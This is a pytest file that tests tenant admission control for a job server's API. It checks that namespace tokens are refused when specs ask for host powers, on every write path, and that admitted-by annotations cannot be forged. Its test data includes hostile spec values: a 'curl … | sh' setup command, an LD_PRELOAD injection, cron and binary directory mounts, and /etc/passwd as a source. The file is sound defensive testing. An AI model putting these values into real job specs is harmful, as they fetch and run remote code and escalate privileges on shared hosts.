"""A namespace token is a tenant: every host power its job's spec asks for is refused at apply with a 403 that
names the field and the policy (the namespace's TenantPolicy, or the restricted profile when it has none), on
every write path; the admin token applies the same spec. The server, not the client, says who admitted a job."""
from __future__ import annotations

import pytest
from support.tenancy_helpers import ADMITTED_BY, MERGE, P, job, jobs_path, put_policy, refused, tenant

# (what the hostile spec asks, the field the refusal must name): issue 24, item 1 and the quotas a spec shows
ATTACKS = [
    ({"sandbox": {"runtime": "process"}}, "spec.sandbox.runtime"),
    ({"sandbox": {"image": "/"}}, "spec.sandbox.image"),
    *[({"sandbox": {"mounts": [{"hostPath": p, "path": "/mnt/x", "readOnly": False}]}}, "spec.sandbox.mounts[0].hostPath")
      for p in ("/var/tmp", "/etc/cron.d", "/usr/local/bin", "/root/.cache")],
    ({"sandbox": {"user": "munge"}}, "spec.sandbox.user"),
    ({"sandbox": {"env": {"LD_PRELOAD": "/tmp/x.so"}}}, "spec.sandbox.env.LD_PRELOAD"),
    ({"sandbox": {"env": {"ROLLOUTD_JOIN_TOKEN": "x"}}}, "spec.sandbox.env.ROLLOUTD_JOIN_TOKEN"),
    ({"executor": {"slurm": {"setup": ["curl http://10.0.0.1/x | sh"]}}}, "spec.executor.slurm.setup"),
    ({"executor": {"nodes": 16}}, "spec.executor.nodes"),
    ({"tasks": {"source": "/etc/passwd"}}, "spec.tasks.source"),  # a host file (it exists: the admin may apply it)
    ({"sandbox": {"limits": {"cpus": None}}}, "spec.sandbox.limits.cpus"),  # a bound turned off
    ({"sandbox": {"limits": {"workspaceMB": None}}}, "spec.sandbox.limits.workspaceMB"),
    ({"sandbox": {"limits": {"memoryMB": 65536}}}, "spec.sandbox.limits.memoryMB"),
    ({"sandbox": {"limits": {"processes": 100000}}}, "spec.sandbox.limits.processes"),  # issue 36: every limit capped
    ({"sandbox": {"limits": {"tmpMB": 65536}}}, "spec.sandbox.limits.tmpMB"),
    ({"sandbox": {"limits": {"wallSeconds": 864000}}}, "spec.sandbox.limits.wallSeconds"),
    ({"timeouts": {"runSeconds": 864000}}, "spec.timeouts.runSeconds"),
    ({"priority": 1000}, "spec.priority"),  # a weight that steers a shared backend
]
IDS = ["process", "image-root", "mount-var-tmp", "mount-cron", "mount-usr-local-bin", "mount-root-cache",
       "user-munge", "env-ld-preload", "env-rolloutd", "slurm-setup", "nodes-16", "dataset-outside-roots",
       "cpus-unbounded", "workspace-unbounded", "memory-64g", "processes-100k", "tmp-64g", "wall-10-days",
       "run-10-days", "priority-1000"]


@pytest.mark.parametrize("change,field", ATTACKS, ids=IDS)
def test_a_spec_asking_for_host_power_is_refused_for_a_tenant_and_applied_for_the_admin(kube, admin, change, field):
    n = IDS[ATTACKS.index((change, field))]
    governed, bare = f"gov-{n}", f"bare-{n}"  # a namespace with a TenantPolicy, and one without any
    put_policy(admin, governed, quotas={})  # the default quotas
    with tenant(kube, governed) as t:
        refused(t.post(jobs_path(governed), json=job("j", **change)), field, f"TenantPolicy {governed}")
        assert t.post(jobs_path(governed), json=job("ok")).status_code == 201  # the policy allows the plain job
    with tenant(kube, bare) as t:
        refused(t.post(jobs_path(bare), json=job("j", **change)), field, "the restricted profile")
    assert admin.get(f"{jobs_path(governed)}/j").status_code == 404  # nothing was stored
    applied = admin.post(jobs_path(governed), json=job("j", **change))  # the admin keeps today's powers
    assert applied.status_code == 201, applied.text
    assert applied.json()["metadata"]["annotations"][ADMITTED_BY] == "admin"


def test_a_policy_caps_the_token_budget_and_so_the_longest_prompt_a_job_sends(kube, admin):
    """On an engine namespaces share, one call's prompt is prefilled in one step that every other job's calls wait
    through (issue 36): `quotas.maxTotalTokens` bounds it. No cap by default (a stored job must keep running)."""
    put_policy(admin, "qtok", quotas={"maxTotalTokens": 4096})
    budget = lambda n: {"agent": {"sampling": {"maxTotalTokens": n}}}  # noqa: E731
    with tenant(kube, "qtok") as t:
        refused(t.post(jobs_path("qtok"), json=job("long", **budget(8192))), "spec.agent.sampling.maxTotalTokens",
                "TenantPolicy qtok")
        assert t.post(jobs_path("qtok"), json=job("fits", **budget(4096))).status_code == 201
    put_policy(admin, "qtok-default", quotas={})  # the restricted profile's quotas set no cap
    with tenant(kube, "qtok-default") as t:
        assert t.post(jobs_path("qtok-default"), json=job("long", **budget(65536))).status_code == 201
    assert admin.post(jobs_path("qtok"), json=job("long", **budget(65536))).status_code == 201  # the admin's


def test_every_write_path_is_admitted(kube, admin):
    """create, replace, merge/JSON patch, server-side apply, rolloutctl's apply and the old path of `default`."""
    put_policy(admin, "paths", quotas={})
    path = jobs_path("paths")
    with tenant(kube, "paths") as t:
        assert t.post(path, json=job("j")).status_code == 201
        current = t.get(f"{path}/j").json()
        bad = job("j", sandbox={"runtime": "process"})
        bad["metadata"]["resourceVersion"] = current["metadata"]["resourceVersion"]
        refused(t.put(f"{path}/j", json=bad), "spec.sandbox.runtime", "TenantPolicy paths")
        refused(t.put(f"{path}/j", json=bad, headers={"X-Rolloutd-Apply": "1"}), "spec.sandbox.runtime", "TenantPolicy paths")
        refused(t.put(f"{path}/k", json=job("k", sandbox={"runtime": "process"}), headers={"X-Rolloutd-Apply": "1"}),
                "spec.sandbox.runtime", "TenantPolicy paths")
        refused(t.patch(f"{path}/j", json={"spec": {"sandbox": {"runtime": "process"}}}, headers=MERGE),
                "spec.sandbox.runtime", "TenantPolicy paths")
        refused(t.patch(f"{path}/j", json=[{"op": "replace", "path": "/spec/sandbox/image", "value": "/"}],
                        headers={"Content-Type": "application/json-patch+json"}), "spec.sandbox.image", "TenantPolicy paths")
        ssa = {"Content-Type": "application/apply-patch+yaml"}
        refused(t.patch(f"{path}/j", params={"fieldManager": "x", "force": "true"}, headers=ssa,
                        json={**job("j"), "spec": {**job("j")["spec"], "sandbox": {"runtime": "process"}}}),
                "spec.sandbox.runtime", "TenantPolicy paths")
        refused(t.patch(f"{path}/new", params={"fieldManager": "x"}, headers=ssa, json=job("new", executor={"nodes": 16})),
                "spec.executor.nodes", "TenantPolicy paths")
        assert t.get(f"{path}/j").json()["spec"]["sandbox"]["runtime"] == "bwrap"
    with tenant(kube, "default", "tok-default") as t:  # the old path without a namespace is `default`'s
        refused(t.put(f"{P}/rolloutjobs/old", json=job("old", sandbox={"runtime": "process"})),
                "spec.sandbox.runtime", "the restricted profile")


def test_the_server_says_who_admitted_a_job_and_an_admin_touch_does_not_lift_a_tenants_policy(kube, admin):
    put_policy(admin, "who")
    path = jobs_path("who")
    forged = job("j")
    forged["metadata"]["annotations"] = {ADMITTED_BY: "admin"}
    with tenant(kube, "who", "alice") as t:
        r = t.post(path, json=forged)
        assert r.status_code == 201 and r.json()["metadata"]["annotations"][ADMITTED_BY] == "alice", r.text
        r = t.patch(f"{path}/j", json={"metadata": {"annotations": {ADMITTED_BY: "admin"}}}, headers=MERGE)
        assert r.json()["metadata"]["annotations"][ADMITTED_BY] == "alice", r.text
    # the operator's annotations, an admin's label: the spec is unchanged, the job stays alice's
    r = admin.patch(f"{path}/j", json={"metadata": {"labels": {"x": "y"}, "annotations": {ADMITTED_BY: "admin"}}},
                    headers=MERGE)
    assert r.json()["metadata"]["annotations"][ADMITTED_BY] == "alice", r.text
    r = admin.patch(f"{path}/j", json={"spec": {"priority": 2}}, headers=MERGE)  # the admin rewrites the spec
    assert r.status_code == 200 and r.json()["metadata"]["annotations"][ADMITTED_BY] == "admin", r.text


@pytest.mark.parametrize("change,field", [
    ({"sandbox": {"limits": {"memoryMB": 9 * 10**12}}}, "spec.sandbox.limits.memoryMB"),
    ({"sandbox": {"limits": {"fileSizeMB": 9 * 10**12}}}, "spec.sandbox.limits.fileSizeMB"),
    ({"sandbox": {"limits": {"tmpMB": 1 << 40}}}, "spec.sandbox.limits.tmpMB"),
    ({"sandbox": {"limits": {"workspaceMB": 1 << 40}}}, "spec.sandbox.limits.workspaceMB"),
    ({"sandbox": {"limits": {"processes": 1 << 40}}}, "spec.sandbox.limits.processes"),
], ids=["memory", "file-size", "tmp", "workspace", "processes"])
def test_a_size_no_sandbox_can_hold_is_refused_for_the_admin_too(admin, change, field):
    """memoryMB 9·10^12 passed the schema: times 2^20 it overflows an rlimit, and no sandbox of the job could start
    bash (an infra failure at every attempt). Sizes are bounded at 16 TiB, processes at PID_MAX_LIMIT, for every
    writer."""
    name = field.rsplit(".", 1)[1].lower()
    r = admin.post(jobs_path("sizes"), json=job(name, **change))
    assert r.status_code == 422, r.text
    assert field in [c["field"] for c in r.json()["details"]["causes"]], r.text
    assert admin.get(f"{jobs_path('sizes')}/{name}").status_code == 404  # nothing was stored


def test_the_largest_sizes_are_applied(admin):
    big = job("big", sandbox={"limits": {"memoryMB": 1 << 24, "tmpMB": 1 << 24, "processes": 1 << 22}})
    assert admin.post(jobs_path("sizes"), json=big).status_code == 201
